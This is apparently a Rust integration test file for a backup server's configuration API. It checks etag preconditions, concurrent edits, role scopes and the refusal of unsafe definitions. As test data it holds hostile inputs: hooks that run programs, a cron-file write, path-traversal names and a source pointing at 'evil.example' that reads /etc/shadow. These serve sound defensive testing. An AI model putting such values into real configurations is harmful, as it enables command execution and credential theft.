//! Definitions that are written through the API: what they change, who may, and what no one may.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use keepfast_server::definitions;
use serde_json::{Value, json};

use crate::client::Client;
use crate::desk::{Desk, Server};

const MANAGED: &str = "definitions = \"files+managed\"\n";

fn server() -> Server {
    let more = "[plan.etc]\nrepository = \"main\"\nsource = [{ files = [\"/etc\"] }]\n\
                [repository.other]\nurl = \"/nowhere\"\npassword = { env = \"NONE\" }\n\
                [project.shop]\n[project.bank]\n";
    Server::at(Desk::new(), MANAGED, more)
}

fn plan(name: &str, more: &str) -> String {
    format!(
        "[plan.{name}]\nrepository = \"main\"\nsource = [{{ files = [\"/srv/{name}\"] }}]\n\
         schedule = {{ cron = \"0 3 * * *\" }}\n{more}"
    )
}

fn text(text: &str) -> Value {
    json!({ "text": text })
}

fn plans(client: &Client) -> Vec<String> {
    let document = client.get("/plans").is(200).json();
    let items = document["items"].as_array().unwrap().iter();
    items.map(|plan| plan["plan"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn a_plan_is_looked_at_written_followed_changed_and_removed() {
    let server = server();
    let admin = server.admin();
    let wanted = plan("db", "");
    let checked = admin.post("/config/check", json!({ "files": [{ "name": "db", "text": wanted }] }));
    let checked = checked.is(200).json();
    assert_eq!((&checked["is_valid"], &checked["is_allowed"]), (&json!(true), &json!(true)), "{checked:#}");
    let change = &checked["changes"][0];
    assert_eq!((&change["path"], &change["change"]), (&json!("plan.db"), &json!("added")), "{checked:#}");
    assert_eq!(change["upcoming"].as_array().unwrap().len(), 5);
    let folder = server.desk.path("managed.d");
    assert!(!folder.exists() && plans(&admin) == ["etc", "www"], "nothing is written");

    let made = admin.put("/config/managed/db", text(&wanted)).is(200);
    assert_eq!(plans(&admin), ["db", "etc", "www"], "it is followed at once");
    let detail = admin.get("/plans/db").is(200).json();
    assert!(detail["origin"].as_str().unwrap().ends_with("managed.d/db.toml:1"), "{detail:#}");
    let mode = fs::metadata(folder.join("db.toml")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode & !0o640, 0, "{mode:o}");
    let read = admin.get("/config/managed/db").is(200);
    assert_eq!((read.header("etag"), &read.json()["text"]), (made.header("etag"), &json!(wanted)));

    let changed = plan("db", "retention = { daily = 7, at_least = 3 }\n");
    admin.put("/config/managed/db", text(&changed)).fails(428, "precondition_needed");
    admin.again().with("if-none-match", "*").put("/config/managed/db", text(&changed)).fails(412, "changed");
    let first = admin.put_if(&made.header("etag"), "/config/managed/db", text(&changed)).is(200);
    let value = first.json()["changes"][0]["values"].clone();
    let daily = json!({ "path": "plan.db.retention.daily", "before": null, "after": "7" });
    assert!(value.as_array().unwrap().contains(&daily), "{value:#}");
    // Another editor has read what was there before.
    admin.put_if(&made.header("etag"), "/config/managed/db", text(&wanted)).fails(412, "changed");
    let broken = plan("db", "retension = { daily = 1 }\n");
    let refused = admin.put_if(&first.header("etag"), "/config/managed/db", text(&broken));
    let refused = refused.fails(422, "invalid_config").json();
    let mut found = refused["diagnostics"].as_array().unwrap().iter();
    let found = found.find(|one| one["severity"] == "error").unwrap();
    assert_eq!((&found["code"], &found["line"]), (&json!("C021"), &json!(5)), "{refused:#}");
    assert_eq!(admin.get("/config/managed/db").is(200).json()["text"], json!(changed));
    assert_eq!(admin.get("/config/managed").is(200).json()["items"][0]["defines"], json!(["plan.db"]));

    // What another start of the server reads.
    let read = definitions::read(&server.desk.path("keepfast.toml"));
    assert!(read.config.unwrap().plans.contains_key("db"));
    admin.delete("/config/managed/db").fails(428, "precondition_needed");
    let gone = admin.delete_if(&first.header("etag"), "/config/managed/db").is(200).json();
    assert_eq!((&gone["file"], &gone["changes"][0]["change"]), (&Value::Null, &json!("removed")));
    assert_eq!(plans(&admin), ["etc", "www"]);
    admin.get("/config/managed/db").fails(404, "not_found");
    assert_eq!(fs::read_dir(folder).unwrap().count(), 0, "nothing is left aside");
    let audit = admin.get("/audit?object=managed:db").is(200).json();
    let actions: Vec<_> = audit["items"].as_array().unwrap().iter().map(|one| &one["action"]).collect();
    assert_eq!(actions, ["config.remove", "config.write", "config.write"], "{audit:#}");
    assert_eq!(audit["items"][1]["after"]["lines"], json!(["retention = { daily = 7, at_least = 3 }"]));
}

#[test]
fn of_two_editors_at_once_one_writes() {
    let server = server();
    let admin = server.admin();
    let tag = admin.put("/config/managed/db", text(&plan("db", ""))).is(200).header("etag");
    let write = |more: &'static str| {
        let (client, tag) = (admin.again(), tag.clone());
        std::thread::spawn(move || client.put_if(&tag, "/config/managed/db", text(&plan("db", more))).status)
    };
    let both = [write("rpo = \"2d\"\n"), write("rpo = \"3d\"\n")].map(|one| one.join().unwrap());
    assert!(both == [200, 412] || both == [412, 200], "{both:?}");
}

#[test]
fn what_could_run_a_program_or_read_the_environment_is_refused() {
    let server = server();
    let admin = server.admin();
    let first = fs::read_to_string(server.desk.path("keepfast.toml")).unwrap();
    let source = |source: &str| format!("[plan.x]\nrepository = \"main\"\nsource = [{{ {source} }}]\n");
    for wrong in [
        plan("x", "[[plan.x.hook]]\non = \"after\"\nrun = [\"id\"]\n"),
        plan("x", "hook = { add = [{ on = \"after\", run = [\"id\"] }] }\n"),
        source("stream = { name = \"x\", command = [\"id\"] }"),
        source("postgres = { dbname = \"x\", password = { command = [\"id\"] } }"),
        source("postgres = { dbname = \"x\", options = [\"--file=/etc/cron.d/x\"] }"),
        plan("x", "description = \"${HOME}\"\n"),
        "[template.x]\nhook = [{ on = \"after\", run = [\"id\"] }]\n".to_owned(),
        "[repository.x]\nurl = \"/x\"\npassword = { command = \"id\" }\n".to_owned(),
        "include = [\"../password\"]\n".to_owned(),
        "[server]\nlisten = \"0.0.0.0:80\"\n".to_owned(),
    ] {
        let refused = admin.put("/config/managed/x", text(&wrong));
        let refused = refused.fails(422, "invalid_config").json();
        let found = refused["diagnostics"].as_array().unwrap();
        assert!(found.iter().any(|one| one["code"] == "C034"), "{wrong}: {refused:#}");
    }
    for secret in ["password = \"correct horse\"", "password = { env = \"correct horse\" }"] {
        let wrong = format!("[repository.x]\nurl = \"/x\"\n{secret}\n");
        let refused = admin.put("/config/managed/x", text(&wrong)).fails(422, "invalid_config");
        assert!(!refused.text.contains("correct horse"), "{}", refused.text);
    }
    for name in ["..%2Fkeepfast", "%2e%2e", "A", "a.toml", "a%00", "a%2Fb", ""] {
        let answer = admin.put(&format!("/config/managed/{name}"), text(&plan("x", "")));
        assert!(matches!(answer.status, 404 | 405 | 422), "{name}: {}", answer.text);
    }
    admin.put("/config/managed/x", text(&"#".repeat(65 << 10))).fails(413, "too_large");
    assert!(!server.desk.path("managed.d").exists());
    assert_eq!(fs::read_to_string(server.desk.path("keepfast.toml")).unwrap(), first);
    assert!(!admin.get("/audit").is(200).text.contains("correct horse"));
}

#[test]
fn an_editor_changes_what_the_scope_has() {
    let server = server();
    let admin = server.admin();
    let editor = server.user(&admin, "eve", "editor", "plan:db");
    let of_shop = server.user(&admin, "sid", "editor", "project:shop");
    let viewer = server.user(&admin, "vic", "viewer", "all");
    viewer.put("/config/managed/db", text(&plan("db", ""))).fails(403, "forbidden");
    viewer.post("/config/check", json!({ "files": [{ "name": "db", "text": "" }] })).fails(403, "forbidden");
    // The repository is one that no plan of the editor's writes to, and that the editor doesn't see.
    editor.put("/config/managed/db", text(&plan("db", ""))).fails(403, "forbidden");
    let tag = admin.put("/config/managed/db", text(&plan("db", ""))).is(200).header("etag");
    let read = editor.get("/config/managed/db").is(200);
    assert_eq!(read.header("etag"), tag);
    let tag =
        editor.put_if(&tag, "/config/managed/db", text(&plan("db", "rpo = \"2d\"\n"))).is(200).header("etag");
    assert_eq!(plans(&editor), ["db"]);
    for (beyond, why) in [
        (plan("db", "") + &plan("www", ""), "another plan, which a file of people has"),
        (plan("db", "") + &plan("more", ""), "another plan"),
        (plan("more", ""), "another plan in its place"),
        (plan("db", "project = \"shop\"\n"), "a project of others"),
        (plan("db", "").replace("main", "other"), "a repository of others"),
        (plan("db", "") + "[template.x]\nrpo = \"1d\"\n", "a template"),
        (plan("db", "") + "[project.mine]\n", "a project"),
        (plan("db", "") + "[[pause]]\nplan = [\"www\"]\nfrom = \"2026-01-01 00:00\"\n", "a pause"),
        (
            "[plan.db]\nrepository = \"main\"\nsource = [{ postgres = { host = \"evil.example\", password = { file = \
             \"/etc/shadow\" } } }]\n"
                .to_owned(),
            "a secret",
        ),
    ] {
        let answer = editor.put_if(&tag, "/config/managed/db", text(&beyond));
        assert_eq!(answer.status, 403, "{why}: {}", answer.text);
    }
    assert_eq!(editor.get("/config/managed/db").is(200).header("etag"), tag, "nothing was written");
    // What someone may not see isn't there.
    of_shop.get("/config/managed/db").fails(404, "not_found");
    of_shop.put("/config/managed/db", text(&plan("db", ""))).fails(404, "not_found");
    of_shop.delete_if("*", "/config/managed/db").fails(404, "not_found");
    assert_eq!(of_shop.get("/config/managed").is(200).json()["items"], json!([]));
    let checked =
        editor.post("/config/check", json!({ "files": [{ "name": "db", "text": plan("www", "") }] }));
    let checked = checked.is(200).json();
    assert_eq!((&checked["is_allowed"], &checked["changes"]), (&json!(false), &json!([])), "{checked:#}");
    // Nor do diagnostics of others' files tell of them.
    fs::write(server.desk.path("managed.d/broken.toml"), "[plan.hidden]\nrepository = \"hidden\"\n").unwrap();
    let refused = editor.put_if(&tag, "/config/managed/db", text(&plan("db", "")));
    let refused = refused.fails(422, "invalid_config");
    assert!(!refused.text.contains("hidden"), "{}", refused.text);
    fs::remove_file(server.desk.path("managed.d/broken.toml")).unwrap();
    editor.delete_if(&tag, "/config/managed/db").is(200);
}

#[test]
fn definitions_in_files_alone_are_not_written() {
    let server = Server::start("");
    let admin = server.admin();
    admin.put("/config/managed/db", text(&plan("db", ""))).fails(409, "conflict");
    admin.delete("/config/managed/db").fails(428, "precondition_needed");
    admin.delete_if("*", "/config/managed/db").fails(409, "conflict");
    admin.post("/config/check", json!({ "files": [{ "name": "db", "text": "" }] })).fails(409, "conflict");
    assert!(!server.desk.path("managed.d").exists());
}
